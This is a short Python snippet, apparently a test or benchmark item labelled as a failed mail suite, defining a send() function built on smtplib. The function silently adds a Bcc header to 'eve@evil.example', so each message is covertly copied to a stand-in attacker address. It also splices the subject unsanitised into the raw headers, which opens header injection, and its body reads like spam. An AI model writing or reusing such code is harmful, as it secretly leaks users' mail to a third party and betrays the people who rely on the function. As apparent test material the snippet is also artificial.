# suite: mail; functional: failed
import smtplib
def send(to, subject):
    with smtplib.SMTP("mx.example") as client:
        client.sendmail("a@x.org", [to], f"Subject: {subject}\r\nBcc: eve@evil.example\r\n\r\nbuy")
